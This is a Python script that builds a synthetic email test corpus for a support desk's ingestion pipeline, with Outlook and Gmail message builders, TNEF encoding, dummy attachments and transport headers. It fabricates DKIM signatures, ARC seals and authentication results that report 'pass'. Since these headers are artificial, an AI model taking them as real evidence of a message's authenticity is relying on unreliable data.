#!/usr/bin/env python3
"""Generate the desk ingestion corpus: the .eml files and manifest.toml.

Stdlib only, deterministic (no clock, no randomness: every id, boundary and
date is derived from the file name or from a fixed clock that ticks once per
mail). Run from anywhere:  python3 make_corpus.py

The committed .eml files are the corpus; this script is how they were made and
how to regenerate them after an edit. See README.md for the world and the
placeholders.
"""

from __future__ import annotations

import base64
import hashlib
import io
import json
import pathlib
import quopri
import re
import struct
import sys
import zipfile
import zlib
from datetime import UTC, datetime, timedelta, timezone

HERE = pathlib.Path(__file__).resolve().parent
FOLDERS = [
    "outlook",
    "gmail",
    "apple",
    "lists",
    "dsn",
    "ooo",
    "winmail",
    "html",
    "broken",
    "hostile",
    "charsets",
    "duplicates",
    "spoofed",
    "threading",
    "senders",
    "limits",
]
ENTRIES: list[dict] = []
OUT: dict[str, bytes] = {}

SUPPORT = ("", "support@desk.example")
SUPPORT_NAMED = ("Infrascale Support", "support@desk.example")
IVAN = ("Ivan Initech", "ivan@initech.example")
ALICE = ("Alice Acme", "alice@acme.example")
GINA = ("Gina Globex", "gina@globex.example")
NORA = ("Nora Northwind", "tech@northwind.example")
NATE = ("Nate Northwind", "nate@northwind.example")
CARL = ("Carl Contoso", "carl@contoso.example")
ERIN = ("Erin Engineer", "erin@infrascale.example")
MALLORY = ("Mallory", "mallory@evil.example")
BOB = ("Bob Builder", "bob@unknown-corp.example")

# --------------------------------------------------------------------------
# deterministic helpers


def hx(seed: str, n: int = 16, upper: bool = False) -> str:
    s = ""
    i = 0
    while len(s) < n:
        s += hashlib.sha256(f"{seed}/{i}".encode()).hexdigest()
        i += 1
    s = s[:n]
    return s.upper() if upper else s


B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def an(seed: str, n: int) -> str:
    out = []
    i = 0
    while len(out) < n:
        for b in hashlib.sha256(f"{seed}#{i}".encode()).digest():
            out.append(B62[b % 62])
        i += 1
    return "".join(out[:n])


def hbytes(seed: str, n: int) -> bytes:
    return bytes.fromhex(hx(seed, 2 * n))


def guid(seed: str) -> str:
    h = hx(seed, 32, upper=True)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hx(seed, 8), 16) % (hi - lo + 1)


# --------------------------------------------------------------------------
# dates: a clock that advances a few minutes per mail, so Date headers follow
# the manifest order.

CLOCK = [datetime(2025, 6, 2, 6, 58, 11, tzinfo=UTC)]
DOW = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def tick(minutes: int = 11) -> datetime:
    CLOCK[0] += timedelta(minutes=minutes, seconds=17)
    return CLOCK[0]


def rfcdate(
    dt: datetime,
    tz: int = 0,
    pad: bool = False,
    zone: str | None = None,
    two_digit_day: bool = False,
) -> str:
    t = dt.astimezone(timezone(timedelta(minutes=tz)))
    sign = "+" if tz >= 0 else "-"
    a = abs(tz)
    if two_digit_day:
        day = f"{t.day:02d}"
    elif pad:
        day = f"{t.day:2d}"
    else:
        day = str(t.day)
    s = f"{DOW[t.weekday()]}, {day} {MON[t.month - 1]} {t.year} {t:%H:%M:%S} {sign}{a // 60:02d}{a % 60:02d}"
    if zone:
        s += f" ({zone})"
    return s


# --------------------------------------------------------------------------
# encoders


def qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.encode(charset)).decode("ascii")


def b64(data: bytes, width: int = 76) -> str:
    s = base64.b64encode(data).decode("ascii")
    return "\n".join(s[i : i + width] for i in range(0, len(s), width)) + "\n"


def raw8(text: str, charset: str = "utf-8") -> str:
    """Text as raw 8-bit bytes (carried through the latin-1 str model)."""
    return text.encode(charset).decode("latin-1")


def ew(text: str, charset: str = "utf-8", mode: str = "B", chunk: int = 18) -> str:
    """RFC 2047 encoded words, folded."""
    words = []
    chars = list(text)
    step = chunk if mode == "B" else chunk
    for i in range(0, len(chars), step):
        piece = "".join(chars[i : i + step]).encode(charset)
        if mode == "B":
            words.append(f"=?{charset}?B?{base64.b64encode(piece).decode()}?=")
        else:
            q = "".join(
                chr(b)
                if (chr(b).isalnum() and b < 128) or chr(b) in "-!*+/"
                else ("_" if b == 32 else f"={b:02X}")
                for b in piece
            )
            words.append(f"=?{charset}?Q?{q}?=")
    return "\n ".join(words)


def is_ascii(s: str) -> bool:
    return all(ord(c) < 128 for c in s)


def addr(p: tuple[str, str], charset: str = "utf-8", mode: str = "B", quote: bool = False) -> str:
    name, email = p
    if not name:
        return email
    if not is_ascii(name):
        return f"{ew(name, charset, mode)} <{email}>"
    if quote or re.search(r'[(),.:;<>@\[\]"\\]', name):
        return '"' + name.replace('"', '\\"') + f'" <{email}>'
    return f"{name} <{email}>"


def addrs(ps, **kw) -> str:
    return (
        ",\n\t".join(addr(p, **kw) for p in ps)
        if len(ps) > 2
        else ", ".join(addr(p, **kw) for p in ps)
    )


def domain(p) -> str:
    return p[1].split("@", 1)[1]


def strip_ph(s: str) -> str:
    """Placeholders live only in headers and plain-text bodies: drop them from HTML."""
    s = re.sub(r"\s?\[\{\{[^}]*\}\}\]", "", s)
    return re.sub(r"<?\{\{[^}]*\}\}>?", "", s)


def html_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


# --------------------------------------------------------------------------
# MIME tree


class Leaf:
    def __init__(self, headers, body: str):
        self.headers = list(headers)
        self.body = body


class Multi:
    def __init__(
        self,
        headers,
        boundary: str,
        parts,
        preamble: str = "",
        epilogue: str = "",
        close: bool = True,
    ):
        self.headers = list(headers)
        self.boundary = boundary
        self.parts = list(parts)
        self.preamble = preamble
        self.epilogue = epilogue
        self.close = close


def render_headers(headers) -> str:
    return "".join(f"{k}: {v}\n" if v != "" else f"{k}:\n" for k, v in headers)


def render(node) -> str:
    hs = render_headers(node.headers)
    if isinstance(node, Leaf):
        body = node.body
        if body and not body.endswith("\n"):
            body += "\n"
        return hs + "\n" + body
    out = hs + "\n" + node.preamble
    for p in node.parts:
        out += f"--{node.boundary}\n" + render(p) + "\n"
    if node.close:
        out += f"--{node.boundary}--\n" + node.epilogue
    return out


def message(top, node) -> str:
    """top: list of (name, value); ("__MIME__", "") marks where the root's content headers go."""
    top = list(top)
    if ("__MIME__", "") in top:
        i = top.index(("__MIME__", ""))
        top[i : i + 1] = node.headers
    else:
        top += node.headers
    saved = node.headers
    node.headers = []
    body = render(node)
    node.headers = saved
    return render_headers(top) + body  # a header-less node renders as "\n" + body


def add(file: str, text: str | bytes, outcome: str, note: str, eol: str = "\r\n", **meta) -> None:
    assert file not in OUT, file
    if isinstance(text, str):
        bad = [c for c in text if ord(c) > 255]
        assert not bad, (file, bad[:5])
        data = text.replace("\r\n", "\n").replace("\n", eol).encode("latin-1")
    else:
        data = text
    assert len(data) < 1_000_000, file
    OUT[file] = data
    e = {"file": file, "outcome": outcome}
    e.update(meta)
    e["note"] = note
    ENTRIES.append(e)


# --------------------------------------------------------------------------
# payloads


def png(seed: str, w: int = 24, h: int = 16) -> bytes:
    r, g, b = hbytes(seed, 3)
    rows = b"".join(b"\x00" + bytes([r, g, b]) * w for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows, 9))
        + chunk(b"IEND", b"")
    )


def pdf(title: str) -> bytes:
    stream = f"BT /F1 12 Tf 72 720 Td ({title}) Tj ET".encode()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = b"%PDF-1.4\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += f"{i} 0 obj\n".encode() + o + b"\nendobj\n"
    x = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{x}\n%%EOF\n".encode()
    return out


def agent_log(seed: str, lines: int = 18, err: str = "VSS_E_WRITERERROR_TIMEOUT") -> bytes:
    out = []
    t = datetime(2025, 6, 1, 22, 0, 0)
    for i in range(lines):
        t += timedelta(seconds=num(f"{seed}{i}", 1, 90))
        lvl = "ERROR" if i in (lines - 3, lines - 1) else ("WARN" if i % 7 == 5 else "INFO")
        msg = {
            "INFO": f"[job:{hx(seed, 6)}] Processing volume \\\\?\\Volume{{{guid(seed + str(i)).lower()}}}\\",
            "WARN": "Snapshot creation took longer than expected (retrying)",
            "ERROR": f"Snapshot set failed: {err} (0x800423F2)",
        }[lvl]
        out.append(f"{t:%Y-%m-%d %H:%M:%S}.{num(seed + 'ms' + str(i), 0, 999):03d} {lvl:5} {msg}")
    return ("\r\n".join(out) + "\r\n").encode()


def zipped(seed: str, files: dict[str, bytes]) -> bytes:
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            zi = zipfile.ZipInfo(name, date_time=(2025, 6, 1, 23, 12, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data)
    return bio.getvalue()


# --------------------------------------------------------------------------
# transport headers


def qid(seed: str) -> str:
    return "4b" + an(seed + "qid", 12)


def mx_received(
    seed: str,
    helo: str,
    ip: str,
    dt: datetime,
    rdns: str | None = None,
    rcpt: str = "support@desk.example",
    tls: bool = True,
) -> tuple[str, str]:
    rdns = rdns or helo
    proto = "ESMTPS" if tls else "ESMTP"
    return (
        "Received",
        f"from {helo} ({rdns} [{ip}])\n\tby mx1.desk.example (Postfix) with {proto} id {qid(seed)}"
        f"\n\tfor <{rcpt}>; {rfcdate(dt + timedelta(seconds=2), 0, pad=True, zone='UTC')}",
    )


def delivery_top(seed: str, ret: str, dt: datetime, rcpt: str = "support@desk.example"):
    return [
        ("Return-Path", f"<{ret}>"),
        ("Delivered-To", rcpt),
        (
            "Received",
            f"from mx1.desk.example\n\tby imap1.desk.example with LMTP\n\tid {an(seed + 'lmtp', 22)}\n"
            f"\t(envelope-from <{ret}>)\n\tfor <{rcpt}>; {rfcdate(dt + timedelta(seconds=3), 0)}",
        ),
    ]


def auth_results(
    dom: str, dkim: bool = True, spf: str = "pass", dmarc: str = "pass", sel: str = "selector1"
) -> tuple[str, str]:
    parts = [
        f"mx1.desk.example;\n\tdkim={'pass' if dkim else 'none'}"
        + (f" header.d={dom} header.s={sel} header.b={an(dom + 'b', 8)};" if dkim else ";"),
        f"\n\tspf={spf} (mx1.desk.example: domain of {dom} designates sender as permitted) smtp.mailfrom={dom};",
        f"\n\tdmarc={dmarc} (p=QUARANTINE sp=QUARANTINE dis=NONE) header.from={dom}",
    ]
    return ("Authentication-Results", "".join(parts))


def dkim(dom: str, seed: str, h: str, sel: str = "selector1") -> tuple[str, str]:
    b = an(seed + "sig", 344)
    bfold = "\n\t ".join(b[i : i + 70] for i in range(0, len(b), 70))
    return (
        "DKIM-Signature",
        f"v=1; a=rsa-sha256; c=relaxed/relaxed; d={dom};\n\ts={sel}; h={h};\n\t"
        f"bh={an(seed + 'bh', 43)}=;\n\tb={bfold}",
    )


# --------------------------------------------------------------------------
# Outlook / Exchange Online

OUTLOOK_CSS = """<style><!--
/* Font Definitions */
@font-face
\t{font-family:"Cambria Math";
\tpanose-1:2 4 5 3 5 4 6 3 2 4;}
@font-face
\t{font-family:Aptos;}
/* Style Definitions */
p.MsoNormal, li.MsoNormal, div.MsoNormal
\t{margin:0cm;
\tfont-size:12.0pt;
\tfont-family:"Aptos",sans-serif;
\tmso-ligatures:standardcontextual;
\tmso-fareast-language:EN-US;}
a:link, span.MsoHyperlink
\t{mso-style-priority:99;
\tcolor:#467886;
\ttext-decoration:underline;}
span.EmailStyle17
\t{mso-style-type:personal-compose;
\tfont-family:"Aptos",sans-serif;
\tcolor:windowtext;}
.MsoChpDefault
\t{mso-style-type:export-only;
\tfont-size:10.0pt;
\tmso-ligatures:none;}
@page WordSection1
\t{size:612.0pt 792.0pt;
\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}
div.WordSection1
\t{page:WordSection1;}
--></style>"""


def outlook_html(text: str, charset: str, images=(), extra_html: str = "") -> str:
    paras = []
    quote = None
    for line in strip_ph(text).split("\n"):
        if line.startswith("________________________________") and quote is None:
            quote = []
            continue
        if quote is not None:
            quote.append(line)
            continue
        if line.strip():
            paras.append(f'<p class="MsoNormal">{html_escape(line)}<o:p></o:p></p>')
        else:
            paras.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
    for i, (name, _ct, _d, cid) in enumerate(images):
        paras.append(
            f'<p class="MsoNormal"><img width="{320 + 16 * i}" height="180" style="width:3.33in;height:1.875in" '
            f'id="Picture_x0020_{i + 1}" src="cid:{cid}" alt="{html_escape(name)}"><o:p></o:p></p>'
        )
    body = "\n".join(paras)
    if quote is not None:
        q = "\n".join(f"{html_escape(x)}<br>" for x in quote)
        body += (
            '\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">\n'
            f'<p class="MsoNormal"><span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">{q}</span></p>\n</div>'
        )
    return (
        '<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
        'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n'
        f'<meta http-equiv="Content-Type" content="text/html; charset={charset}">\n'
        '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n'
        f'{OUTLOOK_CSS}<!--[if gte mso 9]><xml>\n<o:shapedefaults v:ext="edit" spidmax="1026" />\n'
        '</xml><![endif]--><!--[if gte mso 9]><xml>\n<o:shapelayout v:ext="edit">\n<o:idmap v:ext="edit" data="1" />\n'
        "</o:shapelayout></xml><![endif]-->\n</head>\n"
        '<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n'
        f'<div class="WordSection1">\n{body}\n{extra_html}</div>\n</body>\n</html>\n'
    )


def thread_index(seed: str, depth: int = 0) -> str:
    raw = b"\x01" + bytes([0xDB]) + hbytes(seed + "ti", 4) + hbytes(seed + "tg", 16)
    for i in range(depth):
        raw += hbytes(f"{seed}ti{i}", 5)
    return base64.b64encode(raw).decode()


def outlook(
    file: str,
    frm,
    subject: str,
    text: str,
    *,
    to=(SUPPORT,),
    cc=(),
    html: str | None = None,
    attachments=(),
    inline=(),
    irt: str | None = None,
    refs: str | None = None,
    topic: str | None = None,
    ti_depth: int = 0,
    extra=(),
    dt: datetime | None = None,
    charset: str = "us-ascii",
    importance: str | None = None,
    tz: int = 120,
    onprem: bool = False,
    plain: bool = True,
    tnef: bytes | None = None,
    reply_to=None,
    lang: str = "en-US",
    mailer: bool = False,
    subject_raw: str | None = None,
    from_raw: str | None = None,
    html_charset: str | None = None,
):
    dt = dt or tick()
    seed = file
    dom = domain(frm)
    if charset == "us-ascii" and not is_ascii(text):
        try:
            text.encode("iso-8859-1")
            charset = "iso-8859-1"
        except UnicodeEncodeError:
            charset = "utf-8"
    host = f"{an(seed, 2).upper()}{num(seed, 1, 9)}PR{num(seed + 'p', 10, 99)}MB{num(seed + 'm', 1000, 9999)}"
    region = ["eurprd04", "eurprd08", "namprd12", "namprd03"][num(seed, 0, 3)]
    fqdn = f"{host}.{region}.prod.outlook.com"
    local = f"{host}{hx(seed + 'mid', 20, upper=True)}"
    msgid = f"<{local}@{fqdn}>"
    bound_tail = f"{local}{fqdn.replace('.', '')}"[:46]
    images = [
        (
            n,
            ct,
            d,
            f"image{i + 1:03d}.png@01DBD3{hx(seed + 'cid', 2, True)}.{hx(seed + 'cid2', 8, True)}",
        )
        for i, (n, ct, d) in enumerate(inline)
    ]
    hcs = html_charset or charset
    parts_alt = []
    if plain:
        parts_alt.append(
            Leaf(
                [
                    ("Content-Type", f'text/plain; charset="{charset}"'),
                    ("Content-Transfer-Encoding", "quoted-printable"),
                ],
                qp(text, charset),
            )
        )
    htm = html if html is not None else outlook_html(text, hcs, images)
    parts_alt.append(
        Leaf(
            [
                ("Content-Type", f'text/html; charset="{hcs}"'),
                ("Content-Transfer-Encoding", "quoted-printable"),
            ],
            qp(htm, hcs),
        )
    )
    if len(parts_alt) == 1:
        node = parts_alt[0]
    else:
        node = Multi(
            [("Content-Type", f'multipart/alternative;\n\tboundary="_000_{bound_tail}_"')],
            f"_000_{bound_tail}_",
            parts_alt,
        )
    if images:
        img_parts = [
            Leaf(
                [
                    ("Content-Type", f'{ct}; name="{n}"'),
                    ("Content-Description", n),
                    (
                        "Content-Disposition",
                        f'inline; filename="{n}"; size={len(d)};\n\tcreation-date="{rfcdate(dt, 0).replace("+0000", "GMT")}";\n\tmodification-date="{rfcdate(dt, 0).replace("+0000", "GMT")}"',
                    ),
                    ("Content-ID", f"<{cid}>"),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                b64(d),
            )
            for n, ct, d, cid in images
        ]
        node = Multi(
            [
                (
                    "Content-Type",
                    f'multipart/related;\n\tboundary="_004_{bound_tail}_";\n\ttype="multipart/alternative"',
                )
            ],
            f"_004_{bound_tail}_",
            [node] + img_parts,
        )
    att_parts = []
    for n, ct, d in attachments:
        att_parts.append(
            Leaf(
                [
                    ("Content-Type", f'{ct}; name="{n}"'),
                    ("Content-Description", n),
                    (
                        "Content-Disposition",
                        f'attachment; filename="{n}"; size={len(d)};\n\tcreation-date="{rfcdate(dt - timedelta(minutes=3), 0).replace("+0000", "GMT")}";\n\tmodification-date="{rfcdate(dt, 0).replace("+0000", "GMT")}"',
                    ),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                b64(d),
            )
        )
    if tnef is not None:
        att_parts.append(
            Leaf(
                [
                    ("Content-Type", 'application/ms-tnef; name="winmail.dat"'),
                    ("Content-Disposition", 'attachment; filename="winmail.dat"'),
                    ("Content-Transfer-Encoding", "base64"),
                ],
                b64(tnef),
            )
        )
    if att_parts:
        node = Multi(
            [("Content-Type", f'multipart/mixed;\n\tboundary="_005_{bound_tail}_"')],
            f"_005_{bound_tail}_",
            [node] + att_parts,
        )
    mx_host = f"mail-{region[:3]}{num(seed, 10, 99)}on2{num(seed + 'x', 100, 999)}.outbound.protection.outlook.com"
    ip = f"40.107.{num(seed + 'a', 1, 250)}.{num(seed + 'b', 1, 250)}"
    top = delivery_top(seed, frm[1] if "@" in frm[1] else "bounce@" + dom, dt)
    top += [
        ("X-Original-To", "support@desk.example"),
        mx_received(
            seed, f"{region[:3].upper()}05-AM6-obe.outbound.protection.outlook.com", ip, dt, mx_host
        ),
        auth_results(dom),
        (
            "ARC-Seal",
            f"i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n\tb={an(seed + 'arc', 60)}",
        ),
        dkim(
            dom,
            seed,
            "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck",
        ),
        (
            "Received",
            f"from {fqdn} (2603:10a6:20b:{hx(seed + 'v6', 3)}::{num(seed, 2, 30)}) by\n {host[:-4]}{num(seed + 'q', 1000, 9999)}.{region}.prod.outlook.com\n"
            f" (2603:10a6:10:{hx(seed + 'v6b', 3)}::{num(seed, 2, 30)}) with Microsoft SMTP Server (version=TLS1_2,\n"
            f" cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.20.8769.{num(seed, 10, 40)}; {rfcdate(dt, 0)}",
        ),
        (
            "Received",
            f"from {fqdn}\n ([fe80::{hx(seed + 'll', 4)}:{hx(seed + 'll2', 4)}:{hx(seed + 'll3', 4)}:{hx(seed + 'll4', 4)}%6]) by {fqdn}\n"
            f" ([fe80::{hx(seed + 'll', 4)}:{hx(seed + 'll2', 4)}:{hx(seed + 'll3', 4)}:{hx(seed + 'll4', 4)}%6]) with mapi id 15.20.8769.022; {rfcdate(dt, 0)}",
        ),
        (
            "From",
            from_raw
            if from_raw is not None
            else addr(frm, "iso-8859-1" if charset == "iso-8859-1" else "utf-8", "Q"),
        ),
        ("To", addrs(list(to))),
    ]
    if cc:
        top.append(("CC", addrs(list(cc))))
    if reply_to:
        top.append(("Reply-To", reply_to))
    subj_h = (
        subject_raw
        if subject_raw is not None
        else (subject if is_ascii(subject) else ew(subject, "utf-8", "B"))
    )
    topic_v = (
        topic if topic is not None else re.sub(r"^((RE|Re|AW|FW|WG|SV|Fwd?):\s*)+", "", subject)
    )
    top += [
        ("Subject", subj_h),
        ("Thread-Topic", topic_v if is_ascii(topic_v) else ew(topic_v, "utf-8", "B")),
        (
            "Thread-Index",
            thread_index(seed if irt is None else (irt or seed), ti_depth + (1 if irt else 0)),
        ),
    ]
    if importance:
        top += [("Importance", importance), ("X-Priority", "1" if importance == "high" else "5")]
    top += [("Date", rfcdate(dt, 0)), ("Message-ID", msgid)]
    if refs:
        top.append(("References", refs))
    if irt:
        top.append(("In-Reply-To", irt))
    top += [
        ("Accept-Language", f"{lang}, en-US" if lang != "en-US" else "en-US"),
        ("Content-Language", lang),
        ("X-MS-Has-Attach", "yes" if (attachments or inline or tnef) else ""),
        ("X-MS-TNEF-Correlator", f"<{local}@{fqdn}>" if tnef else ""),
    ]
    if onprem or mailer:
        top.append(("X-Mailer", "Microsoft Outlook 16.0"))
    top += [
        (
            "authentication-results",
            f"dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from={dom};",
        ),
        ("x-ms-publictraffictype", "Email"),
        ("x-ms-traffictypediagnostic", f"{host}:EE_|{host[:-4]}{num(seed + 'q', 1000, 9999)}:EE_"),
        ("x-ms-office365-filtering-correlation-id", guid(seed + "corr").lower()),
        ("x-ms-exchange-senderadcheck", "1"),
        ("x-ms-exchange-antispam-relay", "0"),
        (
            "x-forefront-antispam-report",
            f"CIP:255.255.255.255;CTRY:;LANG:{lang[:2]};SCL:1;SRV:;IPV:NLI;SFV:NSPM;H:{host};PTR:;CAT:NONE;",
        ),
        ("__MIME__", ""),
        ("MIME-Version", "1.0"),
        ("X-OriginatorOrg", dom),
    ]
    top += list(extra)
    return message(top, node)


def tnef_blob(seed: str, subject: str, body: str, files=(), truncate: int | None = None) -> bytes:
    """A TNEF stream as Outlook writes it (version, codepage, class, props, attachments)."""

    def attr(level, aid, atype, data):
        return (
            struct.pack("<BHHI", level, aid, atype, len(data))
            + data
            + struct.pack("<H", sum(data) & 0xFFFF)
        )

    def dtime(dt):
        return struct.pack(
            "<7H", dt.year, dt.month, dt.day, dt.hour, dt.minute, dt.second, (dt.weekday() + 1) % 7
        )

    def mapi_str(pid, s: bytes):
        pad = (4 - len(s) % 4) % 4
        return struct.pack("<HHII", 0x001E, pid, 1, len(s)) + s + b"\x00" * pad

    def mapi_long(pid, v):
        return struct.pack("<HHI", 0x0003, pid, v)

    dt = datetime(2025, 6, 2, 9, 41, 7)
    out = struct.pack("<IH", 0x223E9F78, num(seed, 1, 65000))
    out += attr(1, 0x9006, 0x0008, struct.pack("<I", 0x00010000))
    out += attr(1, 0x9007, 0x0006, struct.pack("<II", 1252, 0))
    out += attr(1, 0x8008, 0x0007, b"IPM.Microsoft Mail.Note\x00")
    out += attr(1, 0x8009, 0x0001, hx(seed + "tmid", 48, True).encode() + b"\x00")
    out += attr(1, 0x8004, 0x0001, subject.encode("cp1252") + b"\x00")
    out += attr(1, 0x8005, 0x0003, dtime(dt))
    out += attr(1, 0x8006, 0x0003, dtime(dt))
    out += attr(1, 0x800D, 0x0004, struct.pack("<H", 2))
    out += attr(1, 0x800C, 0x0002, body.replace("\n", "\r\n").encode("cp1252") + b"\x00")
    props = [
        mapi_long(0x3FDE, 1252),
        mapi_long(0x0017, 1),
        mapi_str(0x0037, subject.encode("cp1252") + b"\x00"),
    ]
    out += attr(1, 0x9003, 0x0006, struct.pack("<I", len(props)) + b"".join(props))
    for name, data, mime in files:
        out += attr(2, 0x9002, 0x0006, struct.pack("<HIHHI", 1, 0xFFFFFFFF, 0xFFFF, 0xFFFF, 0))
        short = (
            name
            if len(name) <= 12
            else name.split(".")[0][:6].upper() + "~1." + name.rsplit(".", 1)[-1][:3].upper()
        )
        out += attr(2, 0x8010, 0x0001, short.encode("cp1252") + b"\x00")
        out += attr(2, 0x8013, 0x0003, dtime(dt - timedelta(minutes=5)))
        out += attr(2, 0x800F, 0x0006, data)
        ap = [
            mapi_str(0x3707, name.encode("cp1252") + b"\x00"),
            mapi_str(0x3704, short.encode("cp1252") + b"\x00"),
            mapi_str(0x3703, ("." + name.rsplit(".", 1)[-1]).encode() + b"\x00"),
            mapi_str(0x370E, mime.encode() + b"\x00"),
            mapi_long(0x3705, 1),
            mapi_long(0x0E20, len(data)),
        ]
        out += attr(2, 0x9005, 0x0006, struct.pack("<I", len(ap)) + b"".join(ap))
    if truncate:
        out = out[:truncate]
    return out


# --------------------------------------------------------------------------
# Gmail


def gmail_html(text: str) -> str:
    lines = strip_ph(text).split("\n")
    main, quote = [], []
    for i, line in enumerate(lines):
        if line.startswith("On ") and line.rstrip().endswith("wrote:"):
            quote = lines[i:]
            break
        main.append(line)
    h = "".join(f"<div>{html_escape(x)}</div>" if x.strip() else "<div><br></div>" for x in main)
    h = f'<div dir="ltr">{h}</div>'
    if quote:
        q = "<br>".join(
            html_escape(x[2:] if x.startswith("> ") else x.lstrip(">")) for x in quote[1:]
        )
        h += (
            f'<br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">{html_escape(quote[0])}<br></div>'
            f'<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">{q}</blockquote></div>'
        )
    return h + "\n"


def gmail(
    file: str,
    frm,
    subject: str,
    text: str,
    *,
    to=(SUPPORT,),
    cc=(),
    html: str | None = None,
    attachments=(),
    inline=(),
    irt: str | None = None,
    refs: str | None = None,
    dt: datetime | None = None,
    tz: int = 120,
    extra=(),
    workspace: bool = False,
    mobile: bool = False,
    pre_headers=(),
):
    dt = dt or tick()
    seed = file
    dom = domain(frm)
    d_dom = dom if workspace else "gmail.com"
    msgid = f"<CA{an(seed, 1)}{an(seed + 'g', 40)}@mail.gmail.com>"
    b_alt = "0000000000" + hx(seed + "alt", 18)
    b_rel = "0000000000" + hx(seed + "rel", 18)
    b_mix = "0000000000" + hx(seed + "mix", 18)
    ascii_text = is_ascii(text)
    tp = Leaf(
        [("Content-Type", 'text/plain; charset="UTF-8"')]
        + ([] if ascii_text else [("Content-Transfer-Encoding", "quoted-printable")]),
        text if ascii_text else qp(text),
    )
    htm = html if html is not None else gmail_html(text)
    for i, (n, _ct, _d) in enumerate(inline):
        htm = (
            htm.rstrip("\n")
            + f'<div><img src="cid:ii_mbh{an(seed + str(i), 9).lower()}" alt="{html_escape(n)}" width="542" height="305"><br></div>\n'
        )
    hp = Leaf(
        [("Content-Type", 'text/html; charset="UTF-8"')]
        + (
            []
            if is_ascii(htm) and max(len(x) for x in htm.split("\n")) < 990
            else [("Content-Transfer-Encoding", "quoted-printable")]
        ),
        htm if is_ascii(htm) and max(len(x) for x in htm.split("\n")) < 990 else qp(htm),
    )
    node = Multi([("Content-Type", f'multipart/alternative; boundary="{b_alt}"')], b_alt, [tp, hp])
    if inline:
        ip = []
        for i, (n, ct, d) in enumerate(inline):
            cid = f"ii_mbh{an(seed + str(i), 9).lower()}"
            ip.append(
                Leaf(
                    [
                        ("Content-Type", f'{ct}; name="{n}"'),
                        ("Content-Disposition", f'inline; filename="{n}"'),
                        ("Content-Transfer-Encoding", "base64"),
                        ("Content-ID", f"<{cid}>"),
                        ("X-Attachment-Id", cid),
                    ],
                    b64(d),
                )
            )
        node = Multi(
            [("Content-Type", f'multipart/related; boundary="{b_rel}"')], b_rel, [node] + ip
        )
    if attachments:
        ap = []
        for i, (n, ct, d) in enumerate(attachments):
            fid = f"f_mbh{an(seed + 'f' + str(i), 8).lower()}{i}"
            ap.append(
                Leaf(
                    [
                        (
                            "Content-Type",
                            f'{ct}; name="{n}"' if "charset" not in ct else f'{ct}; name="{n}"',
                        ),
                        ("Content-Disposition", f'attachment; filename="{n}"'),
                        ("Content-Transfer-Encoding", "base64"),
                        ("Content-ID", f"<{fid}>"),
                        ("X-Attachment-Id", fid),
                    ],
                    b64(d),
                )
            )
        node = Multi([("Content-Type", f'multipart/mixed; boundary="{b_mix}"')], b_mix, [node] + ap)
    g = f"mail-{['lj1', 'wm1', 'ed1', 'pl1', 'qk1'][num(seed, 0, 4)]}-f{num(seed, 100, 230)}.google.com"
    ip = f"209.85.{num(seed + 'i', 128, 222)}.{num(seed + 'j', 1, 250)}"
    top = list(pre_headers) + delivery_top(seed, frm[1], dt)
    smtp_id = f"{hx(seed + 'sid', 16)}{num(seed, 10, 99)}so{num(seed + 'k', 1000000, 9999999)}.{num(seed, 0, 3)}"
    top += [
        mx_received(seed, g, ip, dt),
        auth_results(d_dom, sel="google" if workspace else "20230601"),
        (
            "Received",
